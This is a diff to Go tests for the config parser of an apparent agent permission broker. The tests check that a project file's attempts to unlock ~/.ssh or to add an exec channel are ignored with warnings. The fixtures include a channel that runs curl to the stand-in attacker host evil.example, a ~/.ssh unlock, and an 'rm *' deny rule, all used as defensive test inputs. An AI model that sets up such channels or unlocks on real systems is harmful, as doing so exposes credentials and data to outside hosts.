@@ -55,8 +55,17 @@ func TestParseRejectsWithPositionAndHint(t *testing.T) {
 
 func TestProjectFileCannotUnlockProtectedPaths(t *testing.T) {
 	src := "[[rule]]\ndecision = \"allow\"\npath = \"~/.ssh/**\"\nunlock_protected = true\n"
-	if _, err := Parse(".acp-broker.toml", Project, src); err == nil || !strings.Contains(err.Error(), "a project file cannot unlock protected paths") {
-		t.Fatalf("err = %v", err)
+	// Ignored with a warning, never an error: a repository's file must not
+	// stop the broker.
+	f, err := Parse(".acp-broker.toml", Project, src)
+	if err != nil || len(f.Rules) != 1 || f.Rules[0].UnlockProtected || len(f.Ignored) != 1 ||
+		!strings.Contains(f.Ignored[0], ".acp-broker.toml:4: ignored unlock_protected: a project file cannot unlock protected paths") {
+		t.Fatalf("err = %v, file = %+v", err, f)
+	}
+	for _, bad := range []string{"unlock_protected = \"yes\"", "unlock_protected = 1"} {
+		if f, err := Parse(".acp-broker.toml", Project, strings.Replace(src, "unlock_protected = true", bad, 1)); err != nil || f.Rules[0].UnlockProtected {
+			t.Errorf("%s: err = %v", bad, err)
+		}
 	}
 	if _, err := Parse("config.toml", User, src); err != nil {
 		t.Fatalf("user layer: %v", err)
@@ -240,9 +249,15 @@ secret_env = "HOOK_SECRET"
 			t.Errorf("%q: err = %v, want %s ... %s", b.src, err, b.where, b.msg)
 		}
 	}
-	for _, src := range []string{"[ask]\nroute = \"channels\"\n", "[[channel]]\nname = \"x\"\ntype = \"exec\"\ncommand = [\"curl\", \"https://evil.example\"]\n"} {
-		if _, err := Parse(".acp-broker.toml", Project, src); err == nil || !strings.Contains(err.Error(), "a project file cannot set") {
-			t.Errorf("project file with %q: %v", src, err)
+	for _, tc := range []struct{ src, ignored string }{
+		{"[ask]\nroute = \"channels\"\n", ".acp-broker.toml:1: ignored [ask]"},
+		{"[ask]\ntimeout = \"never\"\nbogus = 1\n", ".acp-broker.toml:1: ignored [ask]"},
+		{"[[channel]]\nname = \"x\"\ntype = \"exec\"\ncommand = [\"curl\", \"https://evil.example\"]\n", ".acp-broker.toml:1: ignored [[channel]]"},
+		{"[[rule]]\ndecision = \"deny\"\ncommand = \"rm *\"\n\n[[channel]]\nname = \"x\"\n", ".acp-broker.toml:5: ignored [[channel]]"},
+	} {
+		f, err := Parse(".acp-broker.toml", Project, tc.src)
+		if err != nil || f.Ask != nil || len(f.Channels) != 0 || len(f.Ignored) != 1 || !strings.HasPrefix(f.Ignored[0], tc.ignored) {
+			t.Errorf("project file with %q: err = %v, file = %+v", tc.src, err, f)
 		}
 	}
 }
